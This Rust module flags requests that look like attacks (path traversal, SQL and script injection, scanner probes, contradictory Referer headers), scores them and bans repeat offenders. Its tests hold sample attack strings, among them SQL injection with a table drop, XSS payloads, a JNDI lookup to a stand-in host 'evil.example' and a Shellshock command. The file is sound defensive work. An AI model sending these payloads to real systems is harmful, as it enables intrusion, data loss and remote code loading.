//! Requests that look like attacks: probes for other people's software, and injections tried on
//! the URL and headers. Never a GraphQL document: a post may well discuss `<script>`, and there
//! parameters and encoding protect.
//!
//! Each rule has a name, a score and a mode. Scores add up per address; too many ban it for a
//! while. This is an alarm bell and a saver of work, not what makes injections fail.

use super::client;
use super::door::IncidentKind;
use super::incidents;
use super::passage::Passage;
use super::refusal::Refusal;
use super::suspicious_rules::{self as rules, Rule, Subject};
use http::HeaderName;
use http::header::{AUTHORIZATION, COOKIE, ORIGIN, REFERER, USER_AGENT};
use std::borrow::Cow;
use warp::Rejection;

/// Points in [`super::door::SCORE_WINDOW`] that ban an address.
const BAN_AT: u32 = 30;

/// Examines a request; refuses it (400) when a blocking rule fires and `suspicious_requests` is `block`.
pub(crate) async fn unlikely(passage: Passage) -> Result<Passage, Rejection> {
    let fired = examine(&passage);
    if fired.is_empty() {
        return Ok(passage);
    }
    let door = &passage.door;
    let refused = door.config().suspicious_requests == "block" && fired.iter().any(|rule| rule.blocks);
    let names: Vec<_> = fired.iter().map(|rule| rule.name).collect();
    if !refused {
        for name in names {
            incidents::watched(&passage, IncidentKind::SuspiciousRequest, name).await;
        }
        return Ok(passage);
    }
    incidents::record(&passage, IncidentKind::SuspiciousRequest, names, true).await;
    let address = passage.inbound.address;
    let points = fired.iter().map(|rule| rule.score).sum();
    let total = door.scores().add(door.clock().monotonic(), client::group(address), points);
    let spared = [&door.config().trusted_proxies.0, &door.config().limit_exempt.0];
    if total >= BAN_AT && !spared.iter().any(|networks| client::is_trusted(networks, address)) {
        door.backend().ban(address, "suspicious requests").await;
    }
    Err(Refusal::SUSPICIOUS.into())
}

/// The rules that fire for a request.
fn examine(passage: &Passage) -> Vec<&'static Rule> {
    let mut fired = Vec::new();
    let path = passage.path.as_str();
    if !is_ordinary(path) {
        for form in forms(path) {
            rules::matching(Subject::Path, &form, &mut fired);
        }
    }
    for pair in passage.query.iter().flat_map(|query| query.split('&')) {
        let is_graphql = path == "/graphql"
            && ["query=", "variables=", "extensions=", "operationName="].iter().any(|p| pair.starts_with(p));
        if !is_graphql {
            for form in forms(pair) {
                rules::matching(Subject::Query, &form, &mut fired);
            }
        }
    }
    for (name, value) in &passage.headers {
        if may_hold_anything(name) {
            continue;
        }
        // Bytes that are no text cannot be a pattern of ours, but they are no ordinary header either.
        match value.to_str() {
            Ok(text) => rules::matching(Subject::Header, text, &mut fired),
            Err(_) => rules::push(&rules::BINARY_HEADER, &mut fired),
        }
    }
    agent(passage, &mut fired);
    referer(passage, &mut fired);
    fired
}

/// Paths of our own, spelled plainly: nothing to look for.
fn is_ordinary(path: &str) -> bool {
    matches!(path, "/graphql" | "/health" | "/health/ready" | "/csrf")
}

/// Headers whose text is a secret or its own syntax.
fn may_hold_anything(name: &HeaderName) -> bool {
    [AUTHORIZATION, COOKIE].contains(name) || name.as_str().ends_with("-token")
}

/// An absent, an overlong or a scanner's user agent.
fn agent(passage: &Passage, fired: &mut Vec<&'static Rule>) {
    match passage.headers.get(USER_AGENT).map(http::HeaderValue::as_bytes) {
        None | Some(b"") => rules::push(&rules::NO_USER_AGENT, fired),
        Some(agent) if agent.len() > 500 => rules::push(&rules::LONG_USER_AGENT, fired),
        Some(agent) => rules::matching(Subject::Agent, &String::from_utf8_lossy(agent), fired),
    }
}

/// A `Referer` from another origin than `Origin`: no browser says that.
fn referer(passage: &Passage, fired: &mut Vec<&'static Rule>) {
    let text = |name| passage.headers.get(name).and_then(|value: &http::HeaderValue| value.to_str().ok());
    if let (Some(origin), Some(referer)) = (text(ORIGIN), text(REFERER))
        && origin != "null"
        && super::origin::of_url(referer) != origin
    {
        rules::push(&rules::REFERER_CONTRADICTS, fired);
    }
}

/// `text` as it stands, decoded once, and decoded twice where that differs.
fn forms(text: &str) -> Vec<Cow<'_, str>> {
    let mut forms = vec![Cow::Borrowed(text)];
    for _ in 0..2 {
        let last = forms.last().map_or("", |form| form.as_ref());
        let decoded = decoded(last);
        if decoded == last {
            break;
        }
        forms.push(Cow::Owned(decoded));
    }
    forms
}

/// `text` with `%XX` and `+` decoded; what is no UTF-8 becomes replacement characters.
fn decoded(text: &str) -> String {
    let bytes = text.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut at = 0;
    while let Some(&byte) = bytes.get(at) {
        let hex = bytes.get(at + 1..at + 3).and_then(|digits| {
            let digit = |b: u8| char::from(b).to_digit(16);
            let value = digit(*digits.first()?)? * 16 + digit(*digits.get(1)?)?;
            u8::try_from(value).ok()
        });
        match (byte, hex) {
            (b'%', Some(value)) => {
                out.push(value);
                at += 3;
            }
            (b'+', _) => {
                out.push(b' ');
                at += 1;
            }
            _ => {
                out.push(byte);
                at += 1;
            }
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
    use super::*;
    use proptest::prelude::*;

    fn names(subject: Subject, text: &str) -> Vec<&'static str> {
        let mut fired = Vec::new();
        for form in forms(text) {
            rules::matching(subject, &form, &mut fired);
        }
        fired.iter().map(|rule| rule.name).collect()
    }

    /// ASVS: 16.3.3, 1.3.12
    #[test]
    fn each_rule_sees_its_pattern_also_encoded() {
        for (subject, text, expected) in [
            (Subject::Path, "/../../etc/passwd", "PATH_TRAVERSAL"),
            (Subject::Path, "/%2e%2e%2fetc/passwd", "PATH_TRAVERSAL"),
            (Subject::Path, "/%252e%252e%252fetc/passwd", "PATH_TRAVERSAL"),
            (Subject::Path, "/..%5c..%5cwindows", "PATH_TRAVERSAL"),
            (Subject::Path, "/static/..;/admin", "PATH_TRAVERSAL"),
            (Subject::Path, "/%c0%ae%c0%ae/x", "PATH_TRAVERSAL"),
            (Subject::Path, "/x%00.html", "CONTROL_CHARACTER"),
            (Subject::Query, "next=%0d%0aSet-Cookie:%20a=b", "CONTROL_CHARACTER"),
            (Subject::Query, "id=1%27%20OR%20%271%27=%271", "SQL_INJECTION"),
            (Subject::Query, "id=1'+or+1=1--", "SQL_INJECTION"),
            (Subject::Query, "id=1+UNION+ALL+SELECT+null", "SQL_INJECTION"),
            (Subject::Query, "id=1;drop%20table%20users", "SQL_INJECTION"),
            (Subject::Query, "id=pg_sleep(5)", "SQL_INJECTION"),
            (Subject::Query, "q=%3Cscript%3Ealert(1)%3C/script%3E", "SCRIPT_INJECTION"),
            (Subject::Query, "q=%253Csvg%2520onload%253Dalert(1)%253E", "SCRIPT_INJECTION"),
            (Subject::Query, "u=javascript:alert(1)", "SCRIPT_INJECTION"),
            (Subject::Header, "${jndi:ldap://evil.example/a}", "LOOKUP_INJECTION"),
            (Subject::Header, "() { :; }; /bin/id", "SHELL_INJECTION"),
            (Subject::Header, "<script>alert(1)</script>", "SCRIPT_INJECTION"),
            (Subject::Path, "/.git/config", "SCANNER_PATH"),
            (Subject::Path, "/.env", "SCANNER_PATH"),
            (Subject::Path, "/wp-login.php", "SCANNER_PATH"),
            (Subject::Path, "/cgi-bin/test", "SCANNER_PATH"),
            (Subject::Agent, "sqlmap/1.8#stable (https://sqlmap.org)", "SCANNER_AGENT"),
            (Subject::Agent, "Mozilla/5.0 (compatible; Nuclei)", "SCANNER_AGENT"),
        ] {
            assert!(names(subject, text).contains(&expected), "{text}: {:?}", names(subject, text));
        }
    }

    #[test]
    fn ordinary_requests_fire_nothing() {
        for (subject, text) in [
            (Subject::Path, "/graphiql/assets/index-B3x..js"),
            (Subject::Path, "/.well-known/jwks.json"),
            (Subject::Path, "/environment"),
            (Subject::Query, "q=rock+and+roll+or+union+select+committee+of+the+house"),
            (Subject::Query, "name=O%27Brien&city=Sao+Paulo"),
            (Subject::Query, "text=drop+me+a+line;+update+soon"),
            (Subject::Query, "range=1..10"),
            (Subject::Header, "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"),
            (Subject::Header, "\"Chromium\";v=\"124\", \"Not-A.Brand\";v=\"99\""),
            (Subject::Header, "https://app.example/search?q=javascript+tutorial"),
            (Subject::Agent, "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/124.0 Safari/537.36"),
            (Subject::Agent, "curl/8.5.0"),
            (Subject::Agent, "Apollo/3 NmapleLeaf"),
        ] {
            assert_eq!(names(subject, text), Vec::<&str>::new(), "{text}");
        }
    }

    proptest! {
        #[test]
        fn decoding_undoes_encoding(text in "\\PC{0,40}") {
            let encoded: String = text.bytes().map(|b| format!("%{b:02x}")).collect();
            prop_assert_eq!(decoded(&encoded), text);
        }

        #[test]
        fn any_text_is_examined_without_a_panic(text in "[%+0-9a-fA-F\\PC]{0,200}") {
            for subject in [Subject::Path, Subject::Query, Subject::Header, Subject::Agent] {
                names(subject, &text);
            }
        }
    }
}
